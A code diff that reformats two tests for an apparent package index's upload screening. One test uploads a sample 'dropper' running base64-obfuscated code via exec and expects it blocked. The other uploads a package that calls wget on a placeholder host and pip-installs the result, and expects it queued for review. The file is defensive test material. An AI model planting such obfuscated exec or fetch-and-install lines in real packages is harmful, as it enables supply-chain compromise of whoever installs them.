@@ -40,7 +40,9 @@ def _queue(server: LiveServer, project: str) -> list[tuple[str, str, bool]]:
 
 
 def test_blocked_upload_is_held_and_never_served(server: LiveServer, tmp_path: Path) -> None:
-    blocked = _write(tmp_path, "inert-dropper", f"import base64\nexec(base64.b64decode('{b64(INERT_CODE)}'))\n")
+    blocked = _write(
+        tmp_path, "inert-dropper", f"import base64\nexec(base64.b64decode('{b64(INERT_CODE)}'))\n"
+    )
     result = twine_upload(server, [blocked], check=False)
     output = " ".join((result.stdout + result.stderr).split())
     assert result.returncode != 0
@@ -53,7 +55,11 @@ def test_blocked_upload_is_held_and_never_served(server: LiveServer, tmp_path: P
 
 
 def test_reviewed_upload_is_published_and_queued(server: LiveServer, tmp_path: Path) -> None:
-    reviewed = _write(tmp_path, "fetch-helper", "import os\nos.system('wget https://tools.invalid/x && pip install x')\n")
+    reviewed = _write(
+        tmp_path,
+        "fetch-helper",
+        "import os\nos.system('wget https://tools.invalid/x && pip install x')\n",
+    )
     twine_upload(server, [reviewed])
     assert list(server.files_of("fetch-helper")) == [reviewed.name]
     assert _queue(server, "fetch-helper") == [("review", "open", True)]
